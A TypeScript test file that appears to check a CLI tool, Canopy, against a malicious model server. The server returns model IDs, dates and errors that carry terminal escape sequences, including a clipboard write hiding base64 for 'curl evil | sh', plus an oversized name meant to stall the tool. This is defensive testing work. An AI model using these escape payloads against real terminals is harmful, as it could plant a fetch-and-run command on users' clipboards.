// A model server answers the question for its models with what moves the user's cursor, or keeps Canopy busy.

import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import type { ServerResponse } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { called } from '../../cli/called.ts'
import { limit } from '../../machine-speed.ts'
import { type Attack, couldNotRun, refused, succeeded } from '../attack.ts'
import { listenOnLoopback } from './loopback-server.ts'

const ESCAPE = '\u001b'
/** Writes to the clipboard, in many terminals. */
const CLIPBOARD = `${ESCAPE}]52;c;Y3VybCBldmlsIHwgc2g=\u0007`
const LONGEST_MS = limit(15_000)

const listing = (title: string, answer: (response: ServerResponse) => void): Attack => ({
  title,
  async play() {
    await using server = await listenOnLoopback((_, response) => answer(response))
    const home = realpathSync(mkdtempSync(join(tmpdir(), 'canopy-attack-')))
    try {
      mkdirSync(join(home, '.config/canopy'), { recursive: true })
      const provider = `{ name: vendor, protocol: openai-chat, base-url: "${server.origin}/v1" }`
      const price = '{ input: 0, output: 0, as-of: 2026-11-22 }'
      const model = `{ name: vendor/large-model, window: 100000, max-output: 1000, price: ${price} }`
      const roles = 'roles: { coding: [vendor/large-model] }'
      const text = `models:\n  providers: [${provider}]\n  models: [${model}]\n  ${roles}\n`
      writeFileSync(join(home, '.config/canopy/config.yaml'), text, { mode: 0o600 })
      const begun = performance.now()
      const { out, err } = await called(['models', '--check'], home)
      const ms = performance.now() - begun
      if (server.requests.length === 0) return couldNotRun(`the server was not asked: ${out}${err}`)
      if (`${out}${err}`.includes(ESCAPE)) return succeeded(JSON.stringify(out))
      if (ms > LONGEST_MS) return succeeded(`it took ${Math.round(ms / 1000)} s`)
      return refused(JSON.stringify(`${out}${err}`.slice(0, 300)))
    } finally {
      rmSync(home, { recursive: true, force: true })
    }
  },
})

const models = (...ids: object[]) => JSON.stringify({ object: 'list', data: ids })
const json = (response: ServerResponse, text: string, status = 200) =>
  response.writeHead(status, { 'content-type': 'application/json' }).end(text)

export const attacks: Readonly<Record<string, Attack>> = {
  name: listing('A model of a similar name has a command for the terminal in it', (response) =>
    json(response, models({ id: `large-mode${CLIPBOARD}` }, { id: `large-modes${ESCAPE}[2J` })),
  ),
  date: listing('The day on which a model ends is a command for the terminal', (response) =>
    json(response, models({ id: 'large-model', lifecycle: 'deprecated', retires_at: CLIPBOARD })),
  ),
  error: listing('An error is a command for the terminal', (response) =>
    json(response, JSON.stringify({ error: { message: `no ${CLIPBOARD}`, type: CLIPBOARD } }), 400),
  ),
  'long-name': listing('The name of a model has millions of letters', (response) =>
    json(response, models({ id: 'large-mode'.repeat(1_500_000) })),
  ),
}
